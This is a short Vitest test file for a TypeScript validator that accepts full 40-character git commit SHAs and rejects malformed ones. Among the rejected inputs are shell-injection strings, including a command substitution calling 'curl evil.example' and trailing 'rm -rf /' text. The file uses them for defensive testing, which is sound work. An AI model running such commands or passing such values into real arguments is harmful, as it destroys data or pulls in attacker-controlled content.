import { describe, expect, it } from 'vitest';
import { InvalidShaError, isCommitSha, parseCommitSha } from '../src/commit-sha.ts';

const sha = '3f786850e387550fdab836ed7e6dc881de23001b';

describe('parseCommitSha', () => {
  it('accepts a full SHA and lowercases it', () => {
    expect(parseCommitSha(sha)).toBe(sha);
    expect(parseCommitSha(` ${sha.toUpperCase()}\n`)).toBe(sha);
  });

  it.each([
    ['', 'empty'],
    ['3f78685', 'a short SHA'],
    [`${sha}0`, '41 characters'],
    ['main', 'a branch name'],
    ['g'.repeat(40), 'non-hex characters'],
    [`${sha.slice(0, 39)};`, 'a shell metacharacter'],
    ['$(curl evil.example)', 'a command substitution'],
    [`${sha} && rm -rf /`, 'trailing shell text'],
  ])('refuses %j (%s) with an error naming the input', (value) => {
    expect(() => parseCommitSha(value, 'sha')).toThrow(InvalidShaError);
    expect(() => parseCommitSha(value, 'sha')).toThrow(/sha must be a full 40-character/);
  });

  it('tells SHAs apart without throwing', () => {
    expect(isCommitSha(sha)).toBe(true);
    expect(isCommitSha('HEAD')).toBe(false);
  });
});
